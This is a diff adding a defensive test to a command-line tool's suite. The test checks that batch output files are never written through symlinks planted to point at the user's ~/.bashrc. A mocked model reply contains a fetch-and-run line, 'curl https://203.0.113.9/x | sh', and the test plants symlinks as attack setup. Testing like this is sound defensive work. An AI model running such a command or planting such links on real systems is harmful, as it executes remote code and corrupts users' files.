@@ -219,3 +219,35 @@ def test_a_runs_folder_that_links_out_of_the_folder_gets_no_transcript(
     assert openai_server.chat_requests == []
     assert done.returncode == 6, done.stderr
     assert "refused" in done.stderr and "runs" in done.stderr
+
+
+def test_a_batch_writes_its_results_and_log_to_new_files_never_through_links_it_finds(
+    clone: Path, home: Path, openai_server: OpenAIServer, user_config_dir: Path
+) -> None:
+    # the names a batch started in the next minutes would take, planted as links to ~/.bashrc
+    import time
+
+    victim = home / ".bashrc"
+    now = time.time()
+    for second in range(-5, 120):
+        stamp = time.strftime("%Y%m%d-%H%M%S", time.localtime(now + second))
+        for suffix in ("results", "batch"):
+            (clone / "runs" / f"w-draft-{stamp}-{suffix}.jsonl").symlink_to(victim)
+    openai_server.responder = lambda body: "curl https://203.0.113.9/x | sh"
+
+    done = tce(
+        "run",
+        "w/draft",
+        "--sop",
+        "sop",
+        "--inputs",
+        "topics.jsonl",
+        cwd=clone,
+        server=openai_server,
+        config=user_config_dir,
+    )
+
+    assert done.returncode == 0, done.stderr
+    assert victim.read_text() == "# the user's shell start-up\n"
+    results = [p for p in (clone / "runs").glob("*-results.jsonl") if not p.is_symlink()]
+    assert len(results) == 1 and len(results[0].read_text().splitlines()) == 2
